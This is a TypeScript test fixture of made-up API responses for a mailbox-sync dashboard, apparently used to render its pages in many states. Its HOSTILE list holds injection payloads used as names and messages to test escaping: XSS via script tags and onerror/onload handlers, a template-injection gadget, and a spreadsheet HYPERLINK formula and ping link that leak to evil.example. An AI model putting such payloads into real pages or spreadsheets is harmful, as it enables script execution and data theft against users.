// Made-up answers of the API, true to its shapes: everything that a page may meet, with names as hostile as the world has them.
import type {
  ExplainShape,
  HistoryPage,
  ObjectRow,
  ObjectState,
  OverviewShape,
  ScopeShape,
  SourceShape,
  StageShape,
  Tone,
  TrendShape,
} from '../../src/daemon/api/shapes.ts'

/** What the page holds to be the present. */
export const NOW = Date.parse('2026-11-23T03:12:00Z')

/** The time so many seconds ago. */
export function ago(seconds: number): string {
  return new Date(NOW - seconds * 1000).toISOString()
}

/** Names that have broken pages: each is a label, a subject, an author and a message somewhere on the page. */
export const HOSTILE: readonly string[] = [
  '<img src=x onerror="document.title=\'owned\'">@contoso.com',
  '"><script>globalThis.owned = true</script>@contoso.com',
  'javascript:globalThis.owned=1//@contoso.com',
  '</bdi></td><svg onload=globalThis.owned=1>@contoso.com',
  '\u202Emoc.osotnoc@nna\u202C',
  '{{constructor.constructor("globalThis.owned=1")()}}@contoso.com',
  '=HYPERLINK("https://evil.example/?leak","click")@contoso.com',
  `${'very-long-name-'.repeat(26)}@contoso.com`,
  '<style>body{display:none}</style>@contoso.com',
  '&lt;b&gt;&#x202e;@contoso.com',
  '<a href="https://evil.example/" ping="https://evil.example/">@contoso.com',
]

const ENFORCED = {
  id: '3f2a91c0b7d64b0e8a3f5c1d2e9f7a6b4c8d0e1f',
  subject: 'Move sales to Exchange Online (#184)',
  author: 'Ann Becker',
  committedAt: ago(2_520),
  seenAt: ago(2_512),
}

/** A source whose newest revision may not be taken. */
export const REFUSED_SOURCE: SourceShape = {
  kind: 'git',
  place: 'ssh://git@git.contoso.com/crm/mail.git, branch main',
  enforced: ENFORCED,
  refused: {
    revision: {
      id: '77d03b1e5a9c4f2286d0c7b8a1e3f4d5c6b7a890',
      subject: `Onboard support ${HOSTILE[0]}`,
      author: `Bob ${HOSTILE[1]}`,
      committedAt: ago(400),
      seenAt: ago(392),
    },
    reason: { code: 'InvalidSpec', message: '2 problems in 2 of 14 files.' },
    problems: [
      {
        file: 'tenants/contoso/sales.yaml',
        line: 14,
        column: 5,
        message: 'unknown field `incomming`',
        hint: 'did you mean `incoming`?',
      },
      {
        file: 'tenants/contoso/support.yaml',
        line: 22,
        column: 7,
        message: 'ann@contoso.com is already in the set "sales" (sales.yaml:9:7); a mailbox belongs to one set',
      },
    ],
  },
  lookedAt: ago(21),
}

/** A source as it mostly is. */
export const CALM_SOURCE: SourceShape = {
  kind: 'git',
  place: 'ssh://git@git.contoso.com/crm/mail.git, branch main',
  enforced: ENFORCED,
  lookedAt: ago(21),
}

const stage = (name: string, title: string, tone: Tone, evidence: string): StageShape => ({
  stage: name,
  title,
  tone,
  evidence,
})

const BLANK = {
  policy: 'Enforce',
  phase: 'Idle',
  revision: ENFORCED.id,
  causes: [],
  guards: [],
  rollouts: [],
  runway: [],
  notices: [],
} as const

const RUNWAY: ScopeShape['runway'] = [
  {
    label: 'Exchange Online EWS',
    on: '2027-04-01',
    daysLeft: 129,
    severity: 'Warning',
    source: 'Microsoft, Exchange Team Blog',
    confidence: 'Certain',
  },
  {
    label: 'certificate s2s-2027',
    on: '2027-06-14T09:00:00Z',
    daysLeft: 203,
    severity: 'Calm',
    source: 'CRM server CRM01',
    confidence: 'Certain',
  },
  {
    label: 'credential in Entra ID',
    on: '2027-06-14T09:00:00Z',
    daysLeft: 203,
    severity: 'Calm',
    source: 'Entra ID',
    confidence: 'Likely',
  },
]

/** The organization in trouble: as large as they come. */
export const SALES: ScopeShape = {
  ...BLANK,
  scope: 'organization/contoso-sales',
  kind: 'organization',
  name: 'contoso-sales',
  tone: 'trouble',
  headline: '49,914 of 50,000 mailboxes healthy, 42 fail, 38 wait, 30 changes planned',
  lastPassAt: ago(48),
  nextPassAt: new Date(NOW + 252_000).toISOString(),
  mailboxes: { total: 50_000, healthy: 49_914, waiting: 38, failing: 42, unknown: 6, drifted: 5, unmanaged: 1_180 },
  stages: [
    stage('prerequisites', 'Checks', 'calm', 'CRM 9.1.34, all 11 rights there'),
    stage('email-server-profile', 'Profile', 'calm', '2 of 2 in sync'),
    stage('email-settings', 'Settings', 'calm', 'in sync'),
    stage('mailbox-identity', 'Addresses', 'calm', '50,000 of 50,000 in sync'),
    stage('approval', 'Approval', 'waiting', '49,982 of 50,000 approved, 18 to change'),
    stage('mailbox', 'Mailboxes', 'waiting', '49,988 of 50,000 in sync, 12 to change'),
    stage('test-result', 'Tests', 'trouble', '42 failed, 6 unknown, 38 running'),
  ],
  causes: [
    {
      code: 'ExchangeAuthorizationFailed',
      message: "Exchange refuses this organization's sign-in",
      next: 'The credential of certificate 9F2C…A1 was removed from Entra ID at 02:41 by another writer. The next pass adds it again; 32 mailboxes are then retested.',
      count: 32,
      heading: 'failing',
    },
    {
      code: 'MailboxNotFound',
      message: 'Exchange Online has no mailbox with this address',
      next: 'Give these people an Exchange Online licence, or take them out of sales.yaml.',
      count: 10,
      heading: 'failing',
    },
    { code: 'TestRunning', message: 'a test is running; CRM answers within 15 minutes', count: 38, heading: 'waiting' },
  ],
  plan: {
    digest: '7c1e94ab33d2f00be0a9',
    changes: 30,
    sentences: [
      '18 mailboxes are newly approved',
      '12 mailboxes go from "Old Exchange" to "Exchange Online"',
      'first ann@contoso.com, then 2, then 9; each wave waits for its tests',
      `${HOSTILE[0]} is approved although it was rejected before`,
      '24 mailboxes are tested, about 6 minutes',
    ],
  },
  guards: [
    {
      guard: 'stop',
      decision: 'override',
      message:
        '2 of 40 mailboxes of the set "support" stop (5 %): the limit is 5 %; if that is meant, commit an Override for it',
    },
  ],
  rollouts: [{ name: 'set "sales": profile "Exchange Online"', wave: 2, waves: 4, since: ago(1_260) }],
  runway: RUNWAY,
  notices: [
    { code: 'Fight', message: 'cora@contoso.com is changed back again and again by svc-legacy; it is left alone' },
  ],
}

/** An organization in which everything is well. */
export const MARKETING: ScopeShape = {
  ...BLANK,
  scope: 'organization/contoso-marketing',
  kind: 'organization',
  name: 'contoso-marketing',
  tone: 'calm',
  headline: 'in sync, 412 mailboxes healthy',
  inSyncSince: ago(190_000),
  lastPassAt: ago(75),
  nextPassAt: new Date(NOW + 225_000).toISOString(),
  mailboxes: { total: 412, healthy: 412, waiting: 0, failing: 0, unknown: 0, drifted: 0, unmanaged: 118 },
  stages: SALES.stages.map((one) => ({
    ...one,
    tone: 'calm',
    evidence: one.stage === 'prerequisites' ? 'all there' : 'in sync',
  })),
  plan: { digest: 'e3b0c44298fc1c14', changes: 0, sentences: [] },
  runway: RUNWAY.slice(1),
}

const TRUST: ScopeShape = {
  ...BLANK,
  scope: 'trust/contoso',
  kind: 'trust',
  name: 'contoso',
  tone: 'calm',
  headline: 'in sync: CRM signs in with certificate 9F2C…A1, Entra ID knows it',
  inSyncSince: ago(86_400 * 3),
  lastPassAt: ago(12),
  nextPassAt: new Date(NOW + 288_000).toISOString(),
  stages: [
    stage('trust-prerequisites', 'Checks', 'calm', '2 of 2 servers reachable'),
    stage('certificate-store', 'Certificate', 'calm', 'on 2 of 2 servers'),
    stage('credential', 'Credential', 'calm', 'known to Entra ID'),
    stage('service-principal-names', 'Names', 'calm', '2 of 2 there'),
    stage('server-settings', 'Server settings', 'calm', 'in sync'),
    stage('tenant-id', 'Tenant id', 'calm', 'the same everywhere'),
    stage('certificate-switch', 'Switch', 'calm', 'CRM signs in with it'),
    stage('credential-retire', 'Retirement', 'calm', 'nothing old is left'),
  ],
  plan: { digest: 'e3b0c44298fc1c14', changes: 0, sentences: [] },
  runway: RUNWAY,
}

const SERVICE: ScopeShape = {
  ...BLANK,
  scope: 'organization/contoso-service',
  kind: 'organization',
  name: 'contoso-service',
  tone: 'unknown',
  phase: 'BackingOff',
  headline:
    'no pass came to its end since 2026-11-23 02:55 UTC: crm03.contoso.com: connection refused.; before that: in sync, 1,204 mailboxes healthy',
  failure: {
    reason: { code: 'Unreachable', message: 'crm03.contoso.com: connection refused.' },
    since: ago(1_020),
    attempts: 9,
  },
  lastPassAt: ago(1_320),
  nextPassAt: new Date(NOW + 95_000).toISOString(),
  mailboxes: { total: 1_204, healthy: 0, waiting: 0, failing: 0, unknown: 1_204, drifted: 0, unmanaged: 40 },
  stages: SALES.stages.map((one) => ({ ...one, tone: 'unknown', evidence: 'CRM does not answer' })),
}

const FIELD: ScopeShape = {
  ...BLANK,
  scope: 'organization/contoso-field',
  kind: 'organization',
  name: 'contoso-field',
  tone: 'waiting',
  phase: 'Reconciling',
  progress: { done: 11, planned: 27 },
  headline: '288 of 300 mailboxes healthy, 12 wait for their tests',
  lastPassAt: ago(130),
  mailboxes: { total: 300, healthy: 288, waiting: 12, failing: 0, unknown: 0, drifted: 0, unmanaged: 7 },
  stages: SALES.stages.map((one) =>
    one.stage === 'test-result'
      ? { ...one, tone: 'waiting', evidence: '12 running' }
      : { ...one, tone: 'calm', evidence: 'in sync' },
  ),
  plan: { digest: '81aa12ffe0', changes: 27, sentences: ['27 mailboxes are newly approved'] },
}

const TEST: ScopeShape = {
  ...BLANK,
  scope: 'organization/contoso-test',
  kind: 'organization',
  name: 'contoso-test',
  policy: 'Observe',
  tone: 'waiting',
  headline: '64 mailboxes healthy, 3 changes planned',
  held: { code: 'ChangeWindow', message: 'The next change window opens at 18:00 UTC.' },
  lastPassAt: ago(61),
  nextPassAt: new Date(NOW + 239_000).toISOString(),
  mailboxes: { total: 64, healthy: 64, waiting: 0, failing: 0, unknown: 0, drifted: 2, unmanaged: 0 },
  stages: MARKETING.stages,
  plan: { digest: '55ce01', changes: 3, sentences: ['3 mailboxes are newly approved: ann, bob, support'] },
}

/** Everything at once: the page at its fullest. */
export const TROUBLED: OverviewShape = {
  version: '0.4.0',
  now: new Date(NOW).toISOString(),
  startedAt: ago(86_400 * 12),
  role: 'Reader',
  viewer: 'on-call@contoso.com',
  source: REFUSED_SOURCE,
  scopes: [TRUST, FIELD, MARKETING, SALES, SERVICE, TEST],
}

const FIRST = ['ann', 'bob', 'cora', 'dora', 'eve', 'finn', 'gina', 'hugo', 'ida', 'jan']
const LAST = ['becker', 'chen', 'diaz', 'evans', 'fischer', 'garcia', 'haas', 'ito', 'jones', 'klein']

const MESSAGES: Readonly<Record<ObjectState, readonly [string, string]>> = {
  failing: [
    'ExchangeAuthorizationFailed',
    "Exchange refuses this organization's sign-in: the remote server returned an error (401) Unauthorized",
  ],
  unknown: ['NotRead', 'the page of CRM with this mailbox could not be read'],
  waiting: ['TestRunning', 'a test is running; CRM answers within 15 minutes'],
  healthy: ['Tested', 'sends and receives'],
}

/** Mailboxes of the large organization, those in trouble first, as the API sorts them. */
export function mailboxes(counts: NonNullable<ScopeShape['mailboxes']>): readonly ObjectRow[] {
  const states = (['failing', 'unknown', 'waiting', 'healthy'] as const).flatMap((state) =>
    Array.from({ length: counts[state] }, () => state),
  )
  const strangers = Array.from({ length: counts.unmanaged }, (_, index) => stranger(index))
  return [...states.map((state, index) => row(state, index, index < counts.drifted)), ...strangers]
}

function stranger(index: number): ObjectRow {
  const left = { status: 'Unknown', reason: 'Unmanaged', message: 'nothing in the spec names it, so it is left alone' }
  const label = `stranger${index}@contoso.com`
  return {
    kind: 'Mailbox',
    key: label,
    label,
    state: 'unknown',
    drifted: false,
    unmanaged: true,
    synced: left,
    ready: left,
  }
}

function row(state: ObjectState, index: number, drifted: boolean): ObjectRow {
  const person = `${FIRST[index % 10]}.${LAST[Math.floor(index / 10) % 10]}`
  const label = HOSTILE[index - 3] ?? `${person}${index < 100 ? '' : index}@contoso.com`
  const [code, message] =
    state === 'failing' && index % 4 === 3
      ? (['MailboxNotFound', 'Exchange Online has no mailbox with this address'] as const)
      : MESSAGES[state]
  return {
    kind: 'Mailbox',
    key: label.toLowerCase(),
    label,
    state,
    drifted,
    synced: drifted
      ? { status: 'False', reason: 'Drift', message: 'approval was taken away by svc-legacy at 02:58' }
      : { status: 'True', reason: 'InSync', message: 'as the spec says' },
    ready: { status: state === 'healthy' ? 'True' : state === 'failing' ? 'False' : 'Unknown', reason: code, message },
  }
}

/** The chain of one mailbox. */
export function explained(label: string): ExplainShape {
  return {
    title: `${label} does not receive: Exchange refuses this organization's sign-in (since 02:41, 31 others with the same cause)`,
    tone: 'trouble',
    links: [
      { name: 'spec', text: 'sales.yaml:9, set "sales", as committed at 3f2a91c', state: 'good', broken: false },
      { name: 'profile', text: '"Exchange Online" (Hybrid), autodiscover, in sync', state: 'good', broken: false },
      { name: 'mailbox', text: `there, with the address ${label}`, state: 'good', broken: false },
      {
        name: 'methods',
        text: 'incoming, outgoing, appointments: server-side sync, in sync',
        state: 'good',
        broken: false,
      },
      { name: 'approval', text: 'approved on the user, 2026-11-20 16:02', state: 'good', broken: false },
      {
        name: 'trust',
        text: 'certificate 9F2C…A1 is in CRM; Entra ID has 77D0…3B only',
        state: 'broken',
        broken: true,
      },
      { name: 'exchange', text: 'was not asked', state: 'unknown', broken: false },
      {
        name: 'test',
        text: 'failed 02:44, incoming and outgoing: "401 Unauthorized", alert 4711',
        state: 'broken',
        broken: false,
      },
      { name: 'alerts', text: 'one since 02:44', state: 'told', broken: false },
    ],
    notes: ['As the last pass saw it; `mailkeel explain` asks CRM and Exchange anew.'],
    next: 'The credential of certificate 9F2C…A1 was removed from Entra ID at 02:41 by another writer. `mailkeel apply --only credential` adds it again; 32 mailboxes are then retested.',
  }
}

/** A page of passes; `cursor` is how many came before. */
export function history(before: number, limit: number): HistoryPage {
  const all = 47
  const items = Array.from({ length: Math.min(limit, all - before) }, (_, i) => pass(before + i))
  return { items, ...(before + limit < all && { next: String(before + limit) }) }
}

function pass(index: number): HistoryPage['items'][number] {
  const time = ago(1_300 + index * 7_450)
  const isBad = index % 5 === 1
  return {
    pass: `pass-${index}`,
    time,
    finishedAt: new Date(Date.parse(time) + 72_000).toISOString(),
    by: index === 3 ? (HOSTILE[1] ?? '') : 'mailkeel run',
    revision: ENFORCED.id,
    planned: 3,
    results: isBad ? { Applied: 2, Failed: 1 } : { Applied: 3 },
    ...(index === 6 && { failure: { code: 'Interrupted', message: 'the process was stopped; the next pass went on' } }),
    allowed: index === 2 ? ['stop'] : [],
    changes: [
      {
        label: 'ann',
        stage: 'approval',
        sentence: 'ann.becker@contoso.com is approved',
        result: 'Applied',
        origin: 'sales.yaml:9',
      },
      {
        label: 'x',
        stage: 'mailbox',
        sentence: `${HOSTILE[3]} goes to "Exchange Online"`,
        result: 'Applied',
        origin: 'sales.yaml:3',
      },
      {
        label: 'bob',
        stage: 'approval',
        sentence: 'bob.chen@contoso.com is approved',
        result: isBad ? 'Failed' : 'Applied',
        ...(isBad && {
          reason: { code: 'PrivilegeDenied', message: 'the account of mailkeel may not approve this user' },
        }),
      },
    ],
  }
}

/** Two days of passes that end where the large organization stands. */
export function trend(): TrendShape {
  const length = 240
  const points = Array.from({ length }, (_, i) => {
    const isLate = i > length - 4
    const wave = Math.max(0, Math.round(14 * Math.sin(i / 17)))
    return {
      at: ago((length - i) * 720),
      healthy: 49_914,
      waiting: isLate ? 38 : wave,
      failing: isLate ? 42 : 8 + (i % 60 < 9 ? 5 : 0),
      unknown: isLate ? 6 : 0,
      drifted: i % 80 < 6 ? 7 : isLate ? 5 : 0,
      changes: isLate ? 30 : Math.max(0, wave - 6),
    }
  })
  return { points }
}
